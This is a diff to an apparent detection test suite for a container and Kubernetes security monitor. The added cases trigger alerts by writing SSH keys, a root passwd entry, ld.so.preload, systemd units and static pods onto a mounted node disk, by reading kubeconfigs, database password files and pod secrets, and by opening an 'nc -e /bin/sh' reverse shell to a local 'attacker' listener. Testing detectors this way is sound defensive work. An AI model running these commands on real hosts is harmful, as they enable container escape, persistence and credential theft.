@@ -6,9 +6,7 @@ container: every one raises its alert, which names the container.
 
 import os
 import pathlib
-import pty
 import shutil
-import signal
 import socket
 import subprocess
 import unittest
@@ -106,6 +104,23 @@ WAYS_OUT = {
                          "Container writes what the node starts programs from"),
     "a key for the node": ("mkdir -p /host/root/.ssh; echo key >>/host/root/.ssh/authorized_keys",
                            "Container writes what the node starts programs from"),
+    "a unit for the node": ("mkdir -p /host/etc/systemd/system; echo '[Service]' >/host/etc/systemd/system/x.service",
+                            "Container writes what the node starts programs from"),
+    "a static pod": ("mkdir -p /host/etc/kubernetes/manifests; echo x >/host/etc/kubernetes/manifests/x.yaml",
+                     "Container writes what the node starts programs from"),
+    "a profile of the node's shells": ("mkdir -p /host/etc/profile.d; echo id >/host/etc/profile.d/x.sh",
+                                       "Container writes what the node starts programs from"),
+    "an account of the node": ("echo x::0:0::/:/bin/sh >>/host/etc/passwd",
+                               "Container writes what the node starts programs from"),
+    "a library for all programs of the node": ("echo /x.so >/host/etc/ld.so.preload",
+                                               "Container writes what the node starts programs from"),
+    "a database client's password": ("read line </host/root/.pgpass", "Container opens the node's credentials"),
+    "another database client's password": ("read line </host/root/.my.cnf", "Container opens the node's credentials"),
+    "an administrator's kubeconfig": ("read line </host/root/.kube/config", "Container opens the node's credentials"),
+    "the kubelet's kubeconfig": ("read line </host/etc/kubernetes/kubelet.conf", "Container opens the node's credentials"),
+    "a secret of another pod": ("read line </host/var/lib/kubelet/pods/1/volumes/kubernetes.io~secret/db/password",
+                                "Container opens the node's credentials"),
+    "a database's files": ("read line </host/var/lib/mysql/mysql.ibd", "Container opens the node's credentials"),
     "the kubelet's key": ("read line </host/var/lib/kubelet/pki/kubelet.key",
                           "Container opens the node's credentials"),
     "the kernel's tracing": ("mount -t tracefs none /sys/kernel/tracing && read line </sys/kernel/tracing/current_tracer",
@@ -129,6 +144,8 @@ DEEDS = {
     "Compiler started in a container": "/usr/bin/gcc --version",
     "Shell started by a database server": "cp /usr/bin/bash /tmp/postgres && /tmp/postgres -c '/bin/sh -c true; true'",
     "Shell started by a web server": "cp /usr/bin/bash /tmp/nginx && /tmp/nginx -c '/bin/sh -c true; true'",
+    "Container storms the kernel's keyrings": "/usr/bin/python3 -c 'import ctypes\n"
+                                              "for n in range(120): ctypes.CDLL(None).syscall(248, b\"user\", b\"x\", b\"x\", 1, -2)'",
     "Cloud metadata asked for by a visitor": "/bin/nc -w 1 169.254.169.254 80 </dev/null",
     "Container starts a remote login": "/usr/bin/ssh -V",
     "Logs removed": "mkdir -p /var/log && echo >/var/log/wtmp && /bin/busybox rm /var/log/wtmp",
@@ -154,10 +171,13 @@ class Techniques(Watched):
     def node(self):
         """A directory that looks like a node's disk."""
         node = self.directory / "node"
-        for name in ("bin", "etc/cron.d", "root", "var/lib/kubelet/pki", "usr/bin"):
+        for name in ("bin", "etc/cron.d", "root"):
             (node / name).mkdir(parents=True, exist_ok=True)
         shutil.copy("/bin/busybox", node / "bin" / "true")
-        for name in ("var/lib/kubelet/pki/kubelet.key", "usr/bin/runc"):
+        for name in ("var/lib/kubelet/pki/kubelet.key", "usr/bin/runc", "root/.pgpass", "root/.my.cnf", "root/.kube/config",
+                     "etc/kubernetes/kubelet.conf", "var/lib/mysql/mysql.ibd",
+                     "var/lib/kubelet/pods/1/volumes/kubernetes.io~secret/db/password"):
+            (node / name).parent.mkdir(parents=True, exist_ok=True)
             (node / name).write_text("x\n")
         return node
 
@@ -261,6 +281,24 @@ print(s.makefile().read())
         self.assertIn("uid=0", answer)
         self.expect("Shell started by a web server", container, container.id)
 
+    def test_a_shell_under_a_server_in_java(self):
+        container = self.container(
+            "/bin/sh", "-c", "cp /usr/bin/bash /tmp/java && /tmp/java -c '/bin/sh -c true; true' "
+            "org.apache.catalina.startup.Bootstrap start", ro=PROGRAMS)
+        container.finish()
+        self.expect("Shell started by a web server", container, container.id, proc_pexepath="/tmp/java")
+
+    def test_what_a_shell_on_a_connection_reads(self):
+        node = self.node()
+        attacker = Listener()
+        self.addCleanup(attacker.close)
+        container = self.container("/bin/nc", "127.0.0.1", str(attacker.port), "-e", "/bin/sh", mounts={"/host": node})
+        heard, port = attacker.converse("cat /host/root/.pgpass")
+        self.assertIn("x", heard)
+        alert = self.expect("Node's credentials read onto a connection", container, container.id,
+                            fd_name="/host/root/.pgpass")
+        self.assertEqual(alert["output_fields"]["proc.stdout.name"], f"127.0.0.1:{port}->127.0.0.1:{attacker.port}")
+
     def test_calls_of_the_api_are_counted(self):
         container = self.container(
             "/usr/bin/bash", "-c", f"for i in {{1..25}}; do exec 3<>/dev/tcp/127.0.0.1/{self.api_server.port}; done; "
@@ -293,46 +331,6 @@ print(s.makefile().read())
         called = self.expect("Kubernetes API called after tokens of several pods were read", container)
         self.assertEqual([r["id"] for r in called["related"]], [several["id"]])
 
-    def expect_on_node(self, rule, **fields):
-        """The alert of `rule` for what this process itself did."""
-        wanted = {name.replace("_", "."): value for name, value in fields.items()}
-        found = self.watch.wait_for(
-            lambda a: a["rule"] == rule and a["pid"] == os.getpid()
-            and all(a["output_fields"].get(name) == value for name, value in wanted.items()), rule)[0]
-        self.assertEqual((found["container_id"], found["origin"]), ("host", "host"))
-
-    def open_for_writing(self, path):
-        """As who changes it would; its content and time stay, and what was not there is gone again."""
-        file = pathlib.Path(path)
-        if not file.parent.exists():
-            file.parent.mkdir()
-            self.addCleanup(file.parent.rmdir)
-        if not file.exists() or "nezuban-e2e" in path:
-            self.addCleanup(file.unlink, missing_ok=True)
-        os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_APPEND | os.O_CLOEXEC, 0o644))
-
-    def test_what_is_told_of_the_node(self):
-        for rule, path in (("Start file of the node written by hand", "/etc/cron.d/nezuban-e2e"),
-                           ("Monitor's files changed", "/etc/nezuban/nezuban-e2e"),
-                           ("Preloaded library set", "/etc/ld.so.preload")):
-            with self.subTest(rule):
-                self.open_for_writing(path)
-                self.expect_on_node(rule, **({} if "Monitor" in rule else {"fd_name": path}))
-        with self.subTest("a signal"):
-            self.stop_for_a_moment()
-
-    def test_programs_and_secrets_of_the_node(self):
-        shell = subprocess.Popen(["python3", "-c", "import os; m = os.memfd_create('x'); "
-                                  "os.write(m, open('/bin/busybox', 'rb').read()); os.execve(m, ['true'], {})"])
-        terminal, master = pty.fork()
-        if terminal == 0:
-            os.execv("/usr/bin/md5sum", ["md5sum", "/etc/shadow"])
-        self.assertEqual((os.waitpid(terminal, 0)[1], shell.wait()), (0, 0))
-        os.close(master)
-        for rule, pid in (("Program in memory executed on the node", shell.pid),
-                          ("Password hashes among files swept up", terminal)):
-            self.watch.wait_for(lambda a, r=rule, p=pid: a["rule"] == r and a["pid"] == p, rule)
-
     def test_other_streams_on_the_network(self):
         for rule, command in (
                 ("Program started on a network connection", ["/bin/nc", "127.0.0.1", "{port}", "-e", "/bin/cat"]),
@@ -344,23 +342,6 @@ print(s.makefile().read())
                 container = self.container(*(word.format(port=peer.port) for word in command))
                 peer.accept()[0].close()
                 self.expect(rule, container, container.id)
-
-    def test_a_start_file_put_in_place(self):
-        rule, written = "Start file of the node written by hand", pathlib.Path("/etc/nezuban-e2e-written")
-        moved, linked = (pathlib.Path("/etc/cron.d") / f"nezuban-e2e-{name}" for name in ("moved", "linked"))
-        for file in written, moved, linked:
-            self.addCleanup(file.unlink, missing_ok=True)
-        moved.parent.mkdir(exist_ok=True)
-        written.write_text("# nothing\n")
-        linked.symlink_to(written)
-        written.rename(moved)
-        self.expect_on_node(rule, fs_path_source=str(linked))
-        self.expect_on_node(rule, fs_path_target=str(moved))
-
-    def stop_for_a_moment(self):
-        os.kill(self.daemon.process.pid, signal.SIGSTOP)
-        os.kill(self.daemon.process.pid, signal.SIGCONT)
-        self.expect_on_node("Monitor signalled", evt_arg_sig="SIGSTOP")
 
     def test_scans_are_counted(self):
         container = self.container(
